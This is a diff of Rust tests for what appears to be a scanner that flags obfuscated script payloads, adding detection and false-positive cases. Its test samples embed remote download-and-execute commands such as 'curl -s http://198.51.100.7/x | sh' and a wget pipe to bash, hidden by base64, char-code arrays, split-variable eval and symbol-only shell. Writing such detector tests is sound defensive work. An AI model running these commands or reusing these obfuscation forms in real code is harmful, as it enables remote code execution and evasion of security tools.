@@ -16,12 +16,27 @@ fn plugin() -> &'static Harness {
     })
 }
 
-/// `len` characters of base64 text.
+/// `len` characters of base64 of a script's text (a command line, repeated).
 fn base64(len: usize) -> String {
+    encode(&b"curl -s http://198.51.100.7/x | sh; ".repeat(len / 4 * 3 / 36 + 1))[..len / 4 * 4]
+        .to_string()
+}
+
+/// `len` characters of base64 of random bytes: binary data, such as an embedded image.
+fn base64_binary(len: usize) -> String {
+    encode(&random_bytes(len / 4 * 3 + 3, 11))[..len / 4 * 4].to_string()
+}
+
+fn encode(bytes: &[u8]) -> String {
     const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    random_bytes(len, 11)
-        .iter()
-        .map(|b| ALPHABET[*b as usize % 64] as char)
+    bytes
+        .chunks(3)
+        .flat_map(|c| {
+            let n = (c[0] as u32) << 16
+                | (*c.get(1).unwrap_or(&0) as u32) << 8
+                | *c.get(2).unwrap_or(&0) as u32;
+            [18, 12, 6, 0].map(|shift| ALPHABET[(n >> shift) as usize & 63] as char)
+        })
         .collect()
 }
 
@@ -65,6 +80,10 @@ fn encoded_payloads_fed_to_exec_are_detected() {
             format!("import base64\nexec(base64.b64decode('{blob}'))\n"),
         ),
         ("x.js", format!("eval(\"{}\")", "\\x41".repeat(80))),
+        (
+            "y.js",
+            format!("eval(\"{}\")", "\\x63\\x75\\x72\\x6c\\x20".repeat(20)),
+        ),
     ];
     for (name, script) in samples {
         let threats = plugin().threats(name, script.as_bytes());
@@ -190,4 +209,115 @@ fn ordinary_scripts_are_clean() {
             "{name}"
         );
     }
+}
+
+#[test]
+fn binary_blobs_near_a_sink_are_not_encoded_exec() {
+    // A WebAssembly module or image in base64 next to an eval elsewhere in a bundle (as in
+    // pdf.js's sandbox): data, not code.
+    let blob = base64_binary(4000);
+    let bundle = format!("var wasm = \"{blob}\";\nfunction run(s) {{ return eval(s); }}\n");
+    assert!(
+        plugin()
+            .threats("sandbox.min.js", bundle.as_bytes())
+            .is_empty()
+    );
+}
+
+#[test]
+fn javascript_obfuscators_output_is_recognised_by_structure() {
+    // javascript-obfuscator: _0x names around a string array and its rotation loop.
+    let names: String = (0..25)
+        .map(|i| format!("const _0x{:06x}=_0x4ae9(0x{i:x});", 0x3a5f00 + i * 7))
+        .collect();
+    let obfuscated =
+        format!("(function(_0x1f2a3b,_0x4c5d6e){{while(!![]){{try{{{names}}}catch(e){{}}}}}})();");
+    assert_eq!(
+        plugin().threats("lib.js", obfuscated.as_bytes()),
+        ["Obfuscated:JS/ObfuscatorOutput"]
+    );
+    // js-confuser: tables read at hex indexes.
+    let reads: String = (0..25).map(|i| format!("f(QUzu_OO[0x{i:x}]);")).collect();
+    assert_eq!(
+        plugin().threats(
+            "lib.js",
+            format!("var QUzu_OO=[0x2,0x0];{reads}").as_bytes()
+        ),
+        ["Obfuscated:JS/ObfuscatorOutput"]
+    );
+    // The same text in a Python file is not JavaScript.
+    assert!(plugin().threats("lib.py", obfuscated.as_bytes()).is_empty());
+    // Hex literals and a few _0x names in ordinary code are not an obfuscator's.
+    let ordinary = "var mask = 0xff, t = [0x1, 0x2]; var _0xabcd = t[0x1];\n".repeat(10);
+    assert!(plugin().threats("crc.js", ordinary.as_bytes()).is_empty());
+}
+
+#[test]
+fn split_and_eval_and_symbol_only_shell_are_recognised() {
+    let split = "#!/bin/bash\nz='\n';Bz='http:';Az='curl -s ';Cz='//x/y';Dz=' | ';Ez='sh';\neval \"$Az$Bz$Cz$Dz$Ez\"\n";
+    assert_eq!(
+        plugin().threats("a.sh", split.as_bytes()),
+        ["Obfuscated:Shell/SplitEval"]
+    );
+    let body = "/???/??n/???n?f \"\\\\`__ \"\" ``__ \"\" \"\" ``__ `\";".repeat(12);
+    let symbols = format!("__() {{/???/??n/???n?f ${{#}};}}; $(/???/??n/???n?f $({body}););\n");
+    assert_eq!(
+        plugin().threats("b.sh", symbols.as_bytes()),
+        ["Obfuscated:Shell/SymbolOnly"]
+    );
+    // Ordinary shell: eval of two variables, a long separator line, a long quoted message.
+    let ordinary = format!(
+        "#!/bin/sh\neval \"$cmd $args\"\n# {}\necho \"{}\"\n",
+        "=-".repeat(200),
+        "word ".repeat(100)
+    );
+    assert!(plugin().threats("c.sh", ordinary.as_bytes()).is_empty());
+}
+
+#[test]
+fn char_codes_in_arrays_are_found_in_every_language() {
+    let code = "require('child_process').exec('wget -qO- http://198.51.100.7/p | bash')";
+    let codes = |shift: u32| -> String {
+        code.bytes()
+            .map(|b| (b as u32 + shift).to_string())
+            .collect::<Vec<_>>()
+            .join(",")
+    };
+    let forms = [
+        (
+            "a.js",
+            format!("eval(String.fromCharCode.apply(null, [{}]));", codes(0)),
+        ),
+        (
+            "b.js",
+            format!(
+                "var o=7;eval(String.fromCharCode.apply(null,[{}].map(function(x){{return x-o}})));",
+                codes(7)
+            ),
+        ),
+        (
+            "c.ps1",
+            format!("iex ([string]::join('', ([char[]]@({}))))", codes(0)),
+        ),
+        (
+            "d.py",
+            format!("exec(''.join(chr(c) for c in [{}]))", codes(0)),
+        ),
+    ];
+    for (name, script) in &forms {
+        assert_eq!(
+            plugin().threats(name, script.as_bytes()),
+            ["Obfuscated:Script/CharCodes"],
+            "{name}"
+        );
+    }
+    // A table of numbers and a conversion elsewhere in the file: not text.
+    let table: Vec<String> = (0..256u64)
+        .map(|i| (i * 40503 % 65521).to_string())
+        .collect();
+    let js = format!(
+        "var T=[{}];function h(s){{return String.fromCharCode(s)}}",
+        table.join(",")
+    );
+    assert!(plugin().threats("hash.js", js.as_bytes()).is_empty());
 }
